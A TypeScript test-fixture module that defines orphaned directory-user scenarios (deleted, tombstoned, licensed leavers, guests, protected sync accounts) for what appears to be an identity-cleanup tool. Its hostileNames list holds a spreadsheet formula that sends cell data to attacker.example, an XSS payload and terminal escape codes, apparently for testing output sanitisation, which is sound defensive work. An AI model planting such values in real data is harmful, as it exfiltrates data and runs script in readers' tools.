import { draftUser } from '../drafts/user';
import { deletedSince, gone, lostSince, type Stories, tombstoned, verdicts } from '../story';

/** Names that somebody chose with the next reader's spreadsheet, browser or terminal in mind. */
const hostileNames: readonly string[] = [
  '=HYPERLINK("https://attacker.example/?"&A1,"Payroll")',
  '<img src=x onerror="alert(document.domain)">',
  '\u001B[2J\u001B[31mDomain Admin',
];

/** Users whose source is gone: the orphans, and among them those that nobody may delete. */
export const orphanedUsers = {
  /** Deleted weeks ago; lies in the Recycle Bin, and has lain there for longer than is waited for (case 15). */
  userInRecycleBin: {
    verdict: verdicts.deleted,
    copies: 8,
    tell: stage => tombstoned(stage, draftUser(stage, stage.someDomain()), false),
  },
  /** Deleted before the nights that are looked at, and in the Recycle Bin for less than thirty days. */
  userDeletedLately: {
    verdict: verdicts.deleted,
    waitsFor: ['recycleBin'],
    copies: 5,
    tell: stage => deletedSince(stage, draftUser(stage, stage.someDomain()), [9, 25]),
  },
  /** Deleted this week: nights ago it was alive. */
  userDeletedThisWeek: {
    verdict: verdicts.deleted,
    waitsFor: ['grace', 'recycleBin'],
    copies: 3,
    tell: stage => deletedSince(stage, draftUser(stage, stage.someDomain()), [2, 5.5]),
  },
  /** Deleted months ago; the tombstone is all that is left. */
  userRecycled: {
    verdict: verdicts.deleted,
    copies: 5,
    tell: stage => tombstoned(stage, draftUser(stage, stage.someDomain()), true),
  },
  /** Left the firm, was deleted in Active Directory, can still sign in to the cloud and is still paid for. */
  licensedLeaver: {
    verdict: verdicts.deleted,
    copies: 4,
    tell: (stage, copy) => {
      const { cloud, home } = draftUser(stage, stage.someDomain());
      const assignedLicenses = [{ disabledPlans: [], skuId: '05e9a617-0261-4cee-bb44-138d3ef5d965' }];
      return tombstoned(
        stage,
        { cloud: { ...cloud, accountEnabled: true, assignedLicenses }, home },
        copy % 2 === 1,
      );
    },
  },
  /** Gone without a trace. The first ones bear hostile display names. */
  userWithoutTrace: {
    verdict: verdicts.absent,
    copies: 12,
    tell: (stage, copy) => {
      const { cloud, home } = draftUser(stage, stage.someDomain());
      return gone({
        cloud: { ...cloud, displayName: hostileNames[copy] ?? cloud.displayName ?? null },
        home,
      });
    },
  },
  /** Gone without a trace for four nights. */
  userLostThisWeek: {
    verdict: verdicts.absent,
    waitsFor: ['grace'],
    copies: 3,
    tell: stage => lostSince(draftUser(stage, stage.someDomain()), 3.5),
  },
  /** Gone without a trace since the night before this one: two nights are no streak. */
  userLostLastNight: {
    verdict: verdicts.absent,
    waitsFor: ['consecutiveRuns', 'grace'],
    copies: 2,
    tell: stage => lostSince(draftUser(stage, stage.someDomain()), 1.5),
  },
  /** Gone without a trace for the first time tonight. */
  userLostTonight: {
    verdict: verdicts.absent,
    waitsFor: ['synchronisation', 'consecutiveRuns', 'grace'],
    copies: 2,
    tell: stage => lostSince(draftUser(stage, stage.someDomain()), 0.5),
  },
  /**
   * Gone without a trace all along, but three nights ago something on-premises wrote it to the cloud: it lived, and its time
   * begins anew.
   */
  userFedOnceMore: {
    verdict: verdicts.absent,
    waitsFor: ['consecutiveRuns', 'grace'],
    copies: 2,
    tell: stage => {
      const { cloud, home } = draftUser(stage, stage.someDomain());
      const onPremisesLastSyncDateTime = stage.daysAgo(2.4, 2.4);
      return {
        lives: [{ cloud: { ...cloud, onPremisesLastSyncDateTime }, home }],
        onPremises: [],
        earlier: { daysAgo: 2.4, onPremises: [], cloud: [cloud] },
      };
    },
  },
  /** A synchronised guest whose AD account is gone (case 21). */
  guestWithoutTrace: {
    verdict: verdicts.absent,
    copies: 2,
    tell: stage => {
      const { cloud, home } = draftUser(stage, stage.someDomain());
      return gone({ cloud: { ...cloud, userType: 'Guest' }, home });
    },
  },
  /** Deleted in Active Directory, but a member of a restricted management administrative unit. */
  managementRestrictedUser: {
    verdict: verdicts.protectedDeleted,
    copies: 2,
    tell: stage => {
      const { cloud, home } = draftUser(stage, stage.someDomain());
      return tombstoned(stage, { cloud: { ...cloud, isManagementRestricted: true }, home }, false);
    },
  },
  /** The account that synchronisation itself signs in with. */
  synchronisationAccount: {
    verdict: verdicts.protectedAbsent,
    copies: 1,
    tell: stage => {
      const { cloud, home } = draftUser(stage, stage.forests.contoso);
      const name = stage.names.take(`Sync_DC01_${stage.guid().slice(-12)}`);
      return gone({
        cloud: {
          ...cloud,
          assignedLicenses: [],
          displayName: 'On-Premises Directory Synchronization Service Account',
          mail: null,
          mailNickname: name,
          proxyAddresses: [],
          userPrincipalName: `${name}@contoso.onmicrosoft.com`,
        },
        home,
      });
    },
  },
} as const satisfies Stories<'user'>;
